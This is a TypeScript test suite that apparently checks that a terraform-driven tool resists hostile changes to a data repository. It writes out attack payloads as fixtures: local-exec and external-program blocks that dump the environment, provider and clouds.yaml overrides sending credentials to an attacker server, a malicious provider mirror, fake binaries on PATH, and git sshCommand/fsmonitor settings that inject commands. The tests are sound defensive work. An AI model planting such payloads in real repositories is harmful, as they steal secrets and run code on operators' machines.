// What a hostile change to a data repository tries, with the real terraform and a server that writes down what it is sent.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { terraformObstacle } from '../cloud/terraform-obstacle.ts'
import { type Attacker, attacker } from './attacker.ts'
import { commitEverything, type Victim, victim } from './victim.ts'

const obstacle = await terraformObstacle()
if (obstacle !== undefined) process.stderr.write(`test/hostile is skipped: ${obstacle}\n`)

const stack = 'platform_internet'

const command = ({ mark }: Victim) => `
resource "terraform_data" "planted" {
  provisioner "local-exec" { command = "env > ${mark}" }
}
data "external" "planted" { program = ["/bin/sh", "-c", "env > ${mark}; echo {}"] }
`

const override = ({ url }: Attacker) =>
  JSON.stringify({ provider: { openstack: { auth_url: `${url}/v3`, cloud: null } } })

function expectNothing({ mark }: Victim, { received }: Attacker): void {
  expect(existsSync(mark)).toBe(false)
  expect(received).toEqual([])
}

/** Terraform has been at work on the stack: otherwise nothing planted could have had an effect. */
function expectRun(place: Victim): void {
  expect(readdirSync(place.kept('data', stack))).toContain('providers')
  expect(existsSync(place.kept('records', stack))).toBe(true)
}

describe.skipIf(obstacle !== undefined)('a committed file', () => {
  test.each([
    '.tenantry/stacks/platform_internet',
    '.tenantry/work/platform_internet',
    '.',
    'catalogue',
    'cdktf.out/stacks/x',
  ])(
    'of terraform in %s is never loaded: no command runs, and no password goes to another address',
    async folder => {
      const [place, enemy] = [await victim(), await attacker()]
      place.plant({
        [`${folder}/zz.tf`]: command(place),
        [`${folder}/z_override.tf.json`]: override(enemy),
        [`${folder}/terraform.tfvars`]: 'x = 1',
        [`${folder}/z.auto.tfvars`]: 'x = 1',
        [`${folder}/.terraformrc`]: `provider_installation { network_mirror { url = "${enemy.url}/" } }`,
      })
      await place.tenantry(['plan', 'platform:internet'])
      await place.tenantry(['apply', 'platform:internet', '--yes'])
      expectNothing(place, enemy)
    },
  )

  test('would not be seen either where an earlier run has worked: terraform works, and only on what is laid out for it', async () => {
    const [place, enemy] = [await victim(), await attacker()]
    await place.tenantry(['plan', 'platform:internet'])
    await place.tenantry(['apply', 'platform:internet', '--yes'])
    expectRun(place)
    const rooms = [place.kept(), place.kept('plans', '1')]
    for (const folder of rooms.flatMap(room => [join(room, 'work', stack), join(room, 'data', stack)])) {
      writeFileSync(`${folder}/zz.tf`, command(place))
      writeFileSync(`${folder}/z_override.tf.json`, override(enemy))
    }
    await place.tenantry(['plan', 'platform:internet', '--all'])
    await place.tenantry(['apply', 'platform:internet', '--all', '--yes'])
    expectRun(place)
    expectNothing(place, enemy)
  }, 180_000)

  test('named clouds.yaml or secure.yaml gets no password, wherever the command is called', async () => {
    const [place, enemy] = [await victim(), await attacker()]
    const entry = JSON.stringify({
      clouds: {
        internet: { auth: { auth_url: `${enemy.url}/v3`, username: 'u', password: 'p', project_name: 'p' } },
        extranet: { auth: { auth_url: `${enemy.url}/v3`, username: 'u', password: 'p', project_name: 'p' } },
      },
    })
    const files = [
      'clouds.yaml',
      'clouds.yml',
      'clouds-public.yaml',
      'secure.yaml',
      '.config/openstack/clouds.yaml',
    ]
    place.plant(Object.fromEntries(files.map(file => [file, entry])))
    await place.tenantry(['doctor'])
    await place.tenantry(['plan', 'platform:internet'])
    await place.tenantry(['apply', 'platform:internet', '--yes'])
    expectNothing(place, enemy)
    for (const OS_CLIENT_CONFIG_FILE of ['clouds.yaml', place.path('clouds.yaml')]) {
      await place.tenantry(['doctor'], { OS_CLIENT_CONFIG_FILE })
      await place.tenantry(['plan'], { OS_CLIENT_CONFIG_FILE })
    }
    expectNothing(place, enemy)
  })

  test('that the environment points to is no program and no configuration', async () => {
    const [place, enemy] = [await victim(), await attacker()]
    const program = `#!/bin/sh\nenv > ${place.mark}\n`
    place.plant({
      'bin/terraform': program,
      'bin/tofu': program,
      'bin/git': program,
      '.terraformrc': `provider_installation { network_mirror { url = "${enemy.url}/" } }`,
    })
    const PATH = `${place.path('bin')}:${process.env.PATH}`
    await place.tenantry(['plan', 'platform:internet'], { PATH })
    await place.tenantry(['plan', 'platform:internet'], { TENANTRY_TERRAFORM: './bin/terraform' })
    await place.tenantry(['doctor'], { PATH, TENANTRY_TERRAFORM: './bin/terraform' })
    await place.tenantry(['plan', 'platform:internet'], { TF_CLI_CONFIG_FILE: place.path('.terraformrc') })
    await place.tenantry(['doctor'], { TF_CLI_CONFIG_FILE: place.path('.terraformrc') })
    expectNothing(place, enemy)
  })

  test('in the place of a lock or a state of ours neither blocks nor is believed', async () => {
    const place = await victim()
    place.plant({ '.tenantry/run.lock': '{"pid": 1, "host": "another", "at": "2026-01-01"}' })
    expect((await place.tenantry(['plan', 'platform:internet'])).stderr).not.toContain('TY6013')
    place.plant({ [`.tenantry/state/${stack}.tfstate`]: '{"version":4,"resources":[]}' })
    expect((await place.tenantry(['apply', 'platform:internet', '--yes'])).stderr).not.toContain('TY6024')
    expect((await place.tenantry(['state', 'migrate'])).stderr).toContain('TY6025')
    expect(existsSync(place.kept('state', `${stack}.tfstate`))).toBe(false)
  })
})

describe.skipIf(obstacle !== undefined)('a request of the catalogue', () => {
  test('for a state backend gets neither the state nor the password of the runner’s own', async () => {
    const [place, enemy] = [await victim(), await attacker()]
    const file = 'catalogue/platform.yaml'
    const text = execFileSync('git', ['-C', place.root, 'show', `HEAD:${file}`]).toString()
    place.plant({ [file]: text.replaceAll('type: local', `type: http, address: "${enemy.url}"`) })
    const { status, stderr } = await place.tenantry(['plan', 'platform:internet'])
    expect(status).toBe(3)
    expect(stderr).toMatch(/^error TY6036: /)
    expectNothing(place, enemy)
  })

  test('for a provider is refused before terraform is called', async () => {
    const place = await victim()
    place.plant({
      'catalogue/terraform.lock.hcl': 'provider "registry.terraform.io/attacker/openstack" {}\n',
    })
    expect((await place.tenantry(['plan', 'platform:internet'])).stderr).toMatch(/^error TY6037: /)
    expect(existsSync(place.kept())).toBe(false)
  })
})

describe.skipIf(obstacle !== undefined)('a link or a setting of the clone', () => {
  test('in the place of .tenantry is followed by nobody', async () => {
    const place = await victim()
    mkdirSync(place.beside('target/state'), { recursive: true })
    writeFileSync(place.beside('target/state', `${stack}.tfstate`), 'mine')
    writeFileSync(place.beside('target/summary.html'), 'mine')
    symlinkSync(place.beside('target'), place.path('.tenantry'))
    commitEverything(place.root)
    for (const argv of [['run'], ['synth'], ['plan'], ['apply', '--yes'], ['state', 'migrate']])
      expect((await place.tenantry(argv)).status).not.toBe(0)
    expect(readdirSync(place.beside('target'), { recursive: true }).sort()).toEqual(
      ['state', `state/${stack}.tfstate`, 'summary.html'].sort(),
    )
  })

  test('runs nothing when a content is missing, as in a partial clone', async () => {
    const place = await victim()
    const git = (...words: readonly string[]) =>
      execFileSync('git', ['-C', place.root, ...words])
        .toString()
        .trim()
    const file = 'tenants/ningwu/jiaoyuju/xueji-guanli.yaml'
    const object = git('rev-parse', `HEAD:${file}`)
    git('config', 'core.repositoryFormatVersion', '1')
    git('config', 'extensions.partialClone', 'origin')
    git('config', 'remote.origin.url', 'ssh://attacker/x')
    git('config', 'remote.origin.promisor', 'true')
    git('config', 'core.sshCommand', `touch ${place.mark};`)
    git('config', 'core.fsmonitor', `touch ${place.mark};`)
    rmSync(place.path('.git/objects', object.slice(0, 2), object.slice(2)))
    const { status, stderr } = await place.tenantry(['plan', 'platform:internet'])
    expect(status).toBe(3)
    expect(stderr).toMatch(/^error TY6030: /)
    expect(existsSync(place.mark)).toBe(false)
  })
})
